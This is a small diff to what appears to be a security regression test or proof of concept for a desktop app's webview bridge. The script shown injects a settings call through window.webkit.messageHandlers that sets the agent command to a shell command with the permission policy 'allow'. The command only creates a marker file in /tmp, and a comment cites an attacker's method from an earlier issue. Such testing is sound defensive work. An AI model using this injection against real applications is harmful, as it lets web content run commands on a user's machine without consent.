@@ -51,7 +51,7 @@ var h = !!(window.webkit && window.webkit.messageHandlers && window.webkit.messa
 fetch('/beacon?handlers=' + h + '&at=' + encodeURIComponent(location.href));
 if (h) {
   // What the attacker of issue 10 did: an agent command of its choice, permission "allow".
-  window.webkit.messageHandlers.external.postMessage('C' + JSON.stringify({name: 'app.App.SaveSettings',
+  window.webkit.messageHandlers.external.postMessage('C' + JSON.stringify({name: 'app.Settings.SaveSettings',
     args: [{agentCommand: 'sh -c "touch /tmp/cdxtheme-pwned"', permissionPolicy: 'allow'}], callbackID: 'pwn'}));
 }
 </script><p>outside</p>`
